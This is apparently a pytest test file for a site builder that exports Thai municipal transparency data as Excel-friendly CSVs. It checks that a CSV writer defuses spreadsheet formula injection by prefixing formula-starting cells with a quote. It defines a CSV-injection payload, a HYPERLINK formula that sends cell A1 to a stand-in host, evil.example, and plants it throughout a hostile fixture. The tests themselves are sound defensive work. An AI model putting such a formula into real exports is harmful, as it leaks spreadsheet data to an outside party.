"""Hostile content stays inert where the package exports it for other programs:
the CSVs staff open in Excel, and the annotations, step summary and Code Quality
report CI shows."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from conftest import ROOT, build_site, write_tree
from site_builder import csvfile

# A spreadsheet reads a cell that starts with one of these as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"คลิก")'


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula character first, or first
    after leading whitespace."""
    return [c for row in rows for c in row if c.lstrip().startswith(FORMULA_STARTS)]


# --- the one CSV writer ------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_inert_prefixes_every_formula_start(start: str) -> None:
    assert csvfile.inert(start + PAYLOAD) == "'" + start + PAYLOAD


@pytest.mark.parametrize(
    "cell",
    [" =1+1", "   @SUM(A1)", "\n=1+1", "\u3000+1", "\xa0-1", " \t=1", "\r\n=1"],
)
def test_inert_looks_past_leading_whitespace(cell: str) -> None:
    assert csvfile.inert(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["", "มาตรการ", "1. เลือก หน้าแรก > =x", "a=1", "'=1", "/2566/measures/1/", "9.1", "\n", " "],
)
def test_inert_leaves_other_text_alone(cell: str) -> None:
    assert csvfile.inert(cell) == cell


def test_inert_numbers() -> None:
    assert csvfile.inert(3) == "3"
    assert csvfile.inert(-3) == "'-3"


def test_write_keeps_the_excel_format() -> None:
    text = csvfile.write(
        ["ข้อ", "URL"], [["O1", "/a/\n/b/"], ["=1,2", "x"], [1, 'say "hi"'], ["@a\nb", ""]]
    )
    assert text == (
        '\ufeffข้อ,URL\r\nO1,"/a/\n/b/"\r\n"\'=1,2",x\r\n1,"say ""hi"""\r\n"\'@a\nb",\r\n'
    )
    assert _read(text)[1:] == [
        ["O1", "/a/\n/b/"],
        ["'=1,2", "x"],
        ["1", 'say "hi"'],
        ["'@a\nb", ""],
    ]


def test_every_csv_is_written_by_csvfile() -> None:
    """One writer for the whole class: no other module builds CSV rows itself."""
    for source in (ROOT / "site_builder").rglob("*.py"):
        if source.name == "csvfile.py":
            continue
        text = source.read_text(encoding="utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)\b", text), source


# --- the CSVs of a built site and of `site-builder oit --csv` ------------------------


def _yaml(text: str) -> str:
    """``text`` as a YAML double-quoted scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


def hostile_tree(root: Path) -> Path:
    """Every text that reaches a CSV starts with a formula character."""
    measures = []
    results = []
    for no, start in enumerate(("=", "+", "-", "@"), 1):
        measures.append(
            f"  - no: {no}\n"
            f"    title: {_yaml(start + 'title ' + PAYLOAD)}\n"
            f"    indicators: [9]\n"
            f"    oit: [O{no}]\n"
            f"    steps: [{_yaml(start + 'step')}]\n"
            f"    responsible: [{{unit: {_yaml(start + 'unit')}, person: {_yaml('ก')}}}]\n"
            f"    period: [{_yaml(start + 'period')}]\n"
        )
        results.append(
            f"  - measure: {no}\n"
            f"    status: done\n"
            f"    actions: [{_yaml(start + 'action ' + PAYLOAD)}, {_yaml(start + 'second')}]\n"
        )
    items = "".join(
        f"  - {{code: O{no}, name: {_yaml(start + 'name')}, sub: {_yaml(start + '9.1')}}}\n"
        for no, start in enumerate(("=", "+", "-", "@"), 1)
    )
    return write_tree(
        root,
        {
            "site.yml": "organization: {name: เทศบาลตำบลทดสอบ, website: https://www.test.go.th}\n",
            "frameworks/2566.yml": "oit:\n" + items,
            "2566/measures.yml": "measures:\n" + "".join(measures),
            "2566/reports/annual.yml": (
                f"round: annual\ntitle: {_yaml('=report ' + PAYLOAD)}\nresults:\n"
                + "".join(results)
            ),
            "2566/pages/page.md": "---\ntitle: '=page " + PAYLOAD + "'\noit: [O5]\n---\nx\n",
        },
    )


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    build_site(hostile_tree(root / "content"), root / "site")
    return root


@pytest.fixture
def hostile_site(hostile_root: Path) -> Path:
    return hostile_root / "site"


def test_site_csvs_hold_no_formula(hostile_site: Path) -> None:
    files = sorted((hostile_site / "data").glob("*.csv"))
    assert [f.name for f in files] == ["2566-measures.csv", "2566-oit.csv"]
    for file in files:
        rows = _read(file.read_text(encoding="utf-8"))
        assert len(rows) > 1, file
        assert _formula_cells(rows) == [], file


def test_measures_csv_keeps_the_text_behind_a_quote(hostile_site: Path) -> None:
    rows = _read((hostile_site / "data/2566-measures.csv").read_text(encoding="utf-8"))
    assert rows[0][0] == "มาตรการที่"
    for row, start in zip(rows[1:], ("=", "+", "-", "@"), strict=True):
        assert row[1] == f"'{start}title {PAYLOAD}"
        assert row[3] == f"'{start}unit ก"
        assert row[4] == f"'{start}period"
        assert row[6] == f"'=report {PAYLOAD}"
        # Line feeds inside a cell stay; the cell is quoted.
        assert row[7] == f"'{start}action {PAYLOAD}\n{start}second"


def test_oit_csv_keeps_the_text_behind_a_quote(
    hostile_root: Path, hostile_site: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    from site_builder import cli

    rows = {r[0]: r for r in _read((hostile_site / "data/2566-oit.csv").read_text("utf-8"))}
    for no, start in enumerate(("=", "+", "-", "@"), 1):
        assert rows[f"O{no}"][1:3] == [f"'{start}name", f"'{start}9.1"]
    # A page title is only ever inside the explanation, never its first character.
    assert rows["O5"][5].startswith("1. จากเว็บไซต์หลัก")
    assert rows["O5"][5].endswith(f"> =page {PAYLOAD}")
    # The command prints the same bytes as the site publishes.
    capfdbinary.readouterr()
    assert cli.main(["oit", "2566", "--csv", "--content", str(hostile_root / "content")]) == 0
    out, _ = capfdbinary.readouterr()
    assert out == (hostile_site / "data/2566-oit.csv").read_bytes()
